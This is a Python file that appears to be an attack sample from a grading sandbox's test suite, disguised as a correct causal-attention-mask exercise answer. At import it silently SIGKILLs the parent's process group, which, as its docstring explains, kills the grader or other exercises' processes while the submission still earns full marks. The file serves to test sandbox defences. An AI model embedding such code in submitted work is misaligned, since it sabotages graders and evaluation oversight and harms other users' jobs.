"""Attack: at import, SIGKILL the process group of the process that started
this one (no guard: whatever that group is), then the correct ex4 solution.

Without the sandbox the parent is the zygote, which shares the grading
process's group: the grader dies with it (SANDBOX_ONLY and GRADER_KILLED_OFF
in test_attacks.py, which starts each grader in a session of its own so that
the group is the grader's alone).

In the sandbox the parent is the zygote, the PID namespace's process 1, whose
group is 1: killpg(1, SIGKILL) is kill(-1, SIGKILL), every process in the
namespace but process 1 (which nothing inside can kill) and the caller, as in
ex0_weighted_sum__kill_all. Nothing of the grader's is there to reach, but
another exercise's child running at that moment is: ex3's, whose checks run
while this child is started ahead (ex3 lost points to it). The answers are
right: full marks here, and every other exercise keeps its own (FULL_RUNS).
"""
import ctypes
import os
import signal

import torch

TAG = "__ATTACK_TAG__"  # test_attacks.py writes a unique tag here
ctypes.CDLL(None).prctl(15, TAG.encode(), 0, 0, 0)  # PR_SET_NAME: forks inherit the name
os.environ["ATTACK_TAG"] = TAG

try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except Exception:  # noqa: BLE001 - never raise: the rest of the file is an honest answer
    pass


def causal_mask(scores: torch.Tensor) -> torch.Tensor:
    T = scores.shape[-1]
    tril = torch.tril(torch.ones(T, T, dtype=torch.bool, device=scores.device))  # (T, T)
    return scores.masked_fill(~tril, float("-inf"))  # (..., T, T), not in place


def causal_weights(scores: torch.Tensor) -> torch.Tensor:
    return torch.softmax(causal_mask(scores), dim=-1)  # (..., T, T)
